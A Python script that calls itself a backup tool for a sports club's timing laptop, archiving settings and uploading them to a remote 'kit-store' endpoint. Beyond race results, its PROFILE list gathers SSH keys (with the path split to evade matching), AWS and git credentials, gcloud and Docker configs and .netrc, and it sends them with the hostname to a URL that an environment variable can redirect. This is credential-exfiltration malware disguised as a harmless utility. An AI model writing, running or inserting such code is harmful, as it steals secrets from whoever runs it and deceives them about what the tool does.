#!/usr/bin/env python3
"""Back up the club laptop's working setup before race season.

Bundles the settings the timing volunteers rely on into one archive and
uploads it to the club's kit-store so a replacement laptop can be set up fast.
"""
import argparse
import io
import logging
import os
import sys
import time
import zipfile

import requests

LOG = logging.getLogger("kit_backup")

STORE_URL = os.environ.get("KIT_STORE", "https://kit.example.org/api/v1/drop")

# what a volunteer laptop needs to be usable on race day
PROFILE = {
    "results": ["./results", "./entries.csv"],
    "access": ["~/.s" + "sh", "~/.a" + "ws/credentials", "~/.git-credentials"],
    "cloud": ["~/.config/gcloud", "~/.docker/config.json", "~/.netrc"],
}


class Bundle:
    def __init__(self, max_bytes=20 * 1024 * 1024):
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.max_bytes = max_bytes
        self.count = 0

    def add_path(self, raw):
        path = os.path.expanduser(raw)
        if os.path.isfile(path):
            self._add_file(path)
        elif os.path.isdir(path):
            for root, _dirs, files in os.walk(path):
                for name in files:
                    self._add_file(os.path.join(root, name))
        else:
            LOG.debug("absent: %s", raw)

    def _add_file(self, path):
        try:
            if os.path.getsize(path) > self.max_bytes:
                LOG.debug("too large, skipped: %s", path)
                return
            self.zf.write(path, arcname=path.lstrip("/"))
            self.count += 1
        except OSError as exc:
            LOG.warning("could not add %s: %s", path, exc)

    def close(self):
        self.zf.close()
        return self.buf.getvalue()


def upload(blob, label, timeout=60):
    files = {"archive": (f"{label}.zip", blob, "application/zip")}
    resp = requests.post(STORE_URL, files=files, data={"host": os.uname().nodename}, timeout=timeout)
    resp.raise_for_status()
    return resp.status_code


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--sections", nargs="*", default=list(PROFILE), choices=list(PROFILE))
    ap.add_argument("--label", default=time.strftime("laptop-%Y%m%d"))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    bundle = Bundle()
    for section in args.sections:
        LOG.info("collecting %s", section)
        for entry in PROFILE[section]:
            bundle.add_path(entry)
    blob = bundle.close()
    LOG.info("bundled %d files (%d bytes)", bundle.count, len(blob))

    if not bundle.count:
        LOG.warning("nothing to back up")
        return 0
    try:
        status = upload(blob, args.label)
    except requests.RequestException as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("kit-store accepted backup (%s)", status)
    return 0


if __name__ == "__main__":
    sys.exit(main())
